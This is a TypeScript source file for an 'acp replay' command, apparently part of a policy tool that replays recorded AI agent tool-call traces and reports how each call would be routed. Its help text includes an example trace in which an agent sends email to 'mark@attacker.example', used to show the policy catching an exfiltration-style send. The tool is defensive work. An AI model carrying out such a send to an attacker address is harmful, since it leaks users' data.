import { Option, type Command } from "commander";
import { printError, printLine, resolvePath, type CliContext } from "../context.js";
import { CliError, EXIT } from "../exit-codes.js";
import { loadGraphFile, loadPolicyFile, type DecisionInputs } from "../decision/load.js";
import { createReplayer } from "../replay/driver.js";
import { formatReplayedCall, formatReplaySummary, summarizeReplay } from "../replay/output.js";
import { formatTraceProblems, readTraceFile, type TraceFileProblem } from "../replay/read-trace.js";
import { loadReplaySessions } from "../replay/session-runtime.js";
import type { Trace } from "../replay/trace.js";
import type { ReplayedCall } from "../replay/driver.js";
import { oldNameOption, renamedValue } from "./renamed-option.js";

interface ReplayOptions {
  policy: string;
  intent?: string;
  sessionSettings?: string;
  /** The deprecated name of --session-settings. */
  session?: string;
  graph?: string;
  trustedServer: string[];
  approveAsks?: boolean;
  json?: boolean;
}

const HELP_AFTER = `
Each trace file is replayed as its own fresh session (one process; the policy is loaded once).
A trace is JSON lines, one event each:
  {"type":"user_input","text":"…"}
  {"type":"tool_call","server":"…","tool":"…","args":{…}}
  {"type":"tool_result","server":"…","tool":"…","content":…}          (optional "provenance")
Every trace runs in a fresh session of the session runtime, as one more source of the pipeline: the
intent (--intent; without it every action is in the intent), provenance of every argument value,
transition rules and instruction detection (--session-settings). A result is external_untrusted unless
its server is named with --trusted-server or the event carries "provenance" (system_policy,
user_input or external_untrusted); a trusted server's error (content {"isError": true, ...}) is
external_untrusted too, and so is what it says besides its answers (a "tool" that is a protocol method
with a "/", e.g. notifications/message, notifications/progress, sampling/createMessage; not
resources/read or prompts/get), as in acp proxy, unless the event says otherwise. A call that is not accepted does not execute: its result, if the
trace has one, is ignored. Unknown fields are ignored; an unknown event
type, a malformed line or an oversized file is an error naming FILE:LINE, and nothing is replayed.

Prints one JSON line per tool_call {"trace","index","server","tool","route","reasons"} and a summary
line (JSON with --json).

Exit codes:
  0  every trace replayed (whatever the routes)
  1  a trace, policy, graph, intent or session file is missing or unreadable
  2  usage: no trace, no --policy, an unknown option
  4  a trace, policy, graph, intent or session settings file is invalid (each problem on stderr)

Examples:
  printf '%s\\n' '{"type":"tool_call","server":"mail","tool":"send_email","args":{"to":"mark@attacker.example"}}' > trace.jsonl
  acp replay --policy ~/.acp/policy.yml trace.jsonl     # acp init's policy: the send asks
  acp intent new -t summarise-my-day --trusted recipients=me@example.com -o day.yml
  acp replay --policy ~/.acp/policy.yml --intent day.yml --trusted-server calendar \\
    trace.jsonl --json
  acp replay --approve-asks --policy ~/.acp/policy.yml trace.jsonl   # as if a person approved every ask

Docs: acp docs reference/cli/replay, acp docs guides/replay-and-attacks`;

function collect(value: string, previous: string[]): string[] {
  return [...previous, value];
}

async function readTraces(ctx: CliContext, files: readonly string[]): Promise<Trace[]> {
  const traces: Trace[] = [];
  const problems: TraceFileProblem[] = [];
  for (const file of files) {
    const parsed = await readTraceFile(resolvePath(ctx.io, file), file);
    if (parsed.ok) traces.push(parsed.value);
    else problems.push({ name: file, issues: parsed.issues });
  }
  if (problems.length > 0) {
    const count = problems.length === 1 ? "a trace is" : `${problems.length} traces are`;
    throw new CliError(`${count} invalid, nothing replayed:\n${formatTraceProblems(problems)}`, EXIT.invalid);
  }
  return traces;
}

async function loadInputs(ctx: CliContext, options: ReplayOptions): Promise<DecisionInputs> {
  const policyFile = resolvePath(ctx.io, options.policy);
  const policy = await loadPolicyFile(policyFile);
  if (options.graph === undefined) return { policy, policyFile };
  const graphFile = resolvePath(ctx.io, options.graph);
  return { policy, policyFile, graph: await loadGraphFile(graphFile), graphFile, graphNamed: options.graph };
}

/** Registers `acp replay`. */
export function registerReplay(program: Command, ctx: CliContext): void {
  program
    .command("replay")
    .description("replay recorded agent sessions (JSONL traces) through the pipeline; print every call's route")
    .argument("<trace...>", "trace files (JSON lines)")
    .requiredOption("--policy <file>", "the policy file")
    .option("--intent <file>", "the intent (JSON or YAML) every trace's session runs under (default: every action)")
    .option(
      "--session-settings <file>",
      "the session runtime's settings (JSON or YAML): transitions, provenance, escalation",
    )
    .addOption(oldNameOption("--session <file>"))
    .option("--graph <file>", "a consent graph to judge with as well")
    .addOption(
      new Option(
        "--trusted-server <name>",
        "a server whose answers are trusted, but not its errors nor its log lines and other side messages (repeatable)",
      )
        .argParser(collect)
        .default([], "none"),
    )
    .option("--approve-asks", "a call routed ask or defer counts as approved by a person and executes")
    .option("--json", "print the summary as a JSON line too")
    .addHelpText("after", HELP_AFTER)
    .action(async (files: string[], options: ReplayOptions) => {
      const names = { old: "--session", current: "--session-settings" };
      const settings = renamedValue(ctx, names, options.session, options.sessionSettings);
      const inputs = await loadInputs(ctx, options);
      const sessions = await loadReplaySessions(ctx, {
        intent: options.intent,
        session: settings,
        trustedServers: options.trustedServer,
        classify: inputs.policy.classify,
      });
      const traces = await readTraces(ctx, files);
      const replayer = createReplayer({
        inputs,
        sessions,
        trustedServers: new Set(options.trustedServer),
        now: ctx.io.now(),
        approveAsks: options.approveAsks === true,
      });
      const all: ReplayedCall[] = [];
      for (const trace of traces) {
        const calls = await replayer.replayTrace(trace);
        for (const call of calls) printLine(ctx, formatReplayedCall(call));
        all.push(...calls);
      }
      const summary = formatReplaySummary(summarizeReplay(traces.length, all), options.json === true);
      if (options.json === true) printLine(ctx, summary);
      else printError(ctx, summary);
      ctx.exitCode = EXIT.ok;
    });
}
